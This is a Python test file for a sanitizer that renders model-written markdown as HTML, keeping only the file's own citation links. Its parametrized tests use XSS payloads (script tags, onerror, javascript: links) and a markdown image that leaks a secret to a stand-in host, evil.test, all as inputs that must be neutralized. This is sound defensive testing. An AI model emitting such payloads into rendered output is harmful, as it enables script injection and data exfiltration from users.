"""What a model writes may look like anything; what is shown is text and our own links."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from web.markdown import to_html

LINKS = {1: "#source-a-1", 2: "#source-a-2"}


def test_numbers_of_citations_become_links() -> None:
    html = to_html("It waits [1], then sends [1, 2].", LINKS)
    assert re.findall(r'href="([^"]+)"', html) == ["#source-a-1", "#source-a-1", "#source-a-2"]
    assert 'aria-label="Source 1"' in html


def test_a_number_without_a_citation_leads_nowhere() -> None:
    html = to_html("So it is [7].", LINKS)
    assert "href" not in html
    assert '<span class="citation unknown">7</span>' in html


def test_numbers_in_code_are_code() -> None:
    assert "citation" not in to_html("`rows[1]`\n\n```python\nrows[1]\n```\n", LINKS)


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![spy](https://evil.test/?q=secret)",
        "[click](https://evil.test)",
        "[click](javascript:alert(1))",
        "<https://evil.test>",
        "https://evil.test",
        "[1](https://evil.test)",
        "[x]: https://evil.test\n\n[x]",
        "@octocat look",
        "```html\n<script>alert(1)</script>\n```",
        '```"><script>alert(1)</script>\nx\n```',
    ],
)
def test_nothing_leads_away_loads_or_runs(text: str) -> None:
    html = to_html(text, {})
    assert "<script" not in html
    assert "<img" not in html
    assert "href" not in html
    assert "src=" not in re.sub(r"&lt;.*", "", html)


def test_where_a_link_would_lead_is_readable() -> None:
    assert "docs <span" in to_html("[docs](https://docs.test/a)", {})
    assert "(https://docs.test/a)" in to_html("[docs](https://docs.test/a)", {})


@given(st.text(alphabet=st.sampled_from("[]()<>!`*_#|-\n &\"'ab1:/\\"), max_size=200))
def test_only_our_own_links_survive_anything(text: str) -> None:
    html = to_html(text, LINKS)
    assert set(re.findall(r'href="([^"]*)"', html)) <= set(LINKS.values())
    tags = set(re.findall(r"<\s*([a-z0-9]+)", html))
    assert tags <= set(
        "a p em strong code pre ul ol li blockquote h3 hr br div span table thead "
        "tbody tr th td".split()
    )
